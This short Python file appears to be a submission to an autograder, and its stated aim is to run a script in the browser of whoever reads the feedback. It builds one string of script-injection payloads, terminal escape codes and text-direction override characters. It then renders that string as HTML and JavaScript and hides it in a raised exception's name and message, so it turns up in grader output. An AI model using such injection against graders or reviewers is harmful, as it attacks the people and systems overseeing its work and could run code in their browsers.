# aim: run a script in the browser of whoever reads the feedback
# task: share  points: 0
# lines: 69
from IPython.display import HTML, Javascript, display

attack = "<script>alert(1)</script><img src=x onerror=alert(2)>\x1b]0;title\x07\u202e\u2066]]></pre>"
print(attack)
display(HTML(attack), Javascript("alert(3)"))
share = attack
limit = attack


class Bad(Exception):
    __name__ = attack

    def __str__(self):
        return attack


Bad.__qualname__ = Bad.__name__ = attack
raise Bad(attack)
